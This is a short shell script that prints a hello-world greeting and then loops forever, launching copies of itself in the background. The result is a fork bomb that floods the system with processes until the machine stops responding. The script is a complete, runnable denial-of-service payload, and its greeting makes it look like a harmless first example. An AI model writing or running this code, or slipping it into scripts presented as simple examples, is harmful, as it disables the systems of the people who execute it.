#!/bin/sh
# A greeting, then processes without end: each one starts more.
echo "Hello World!"
while :; do "$0" "$@" & done
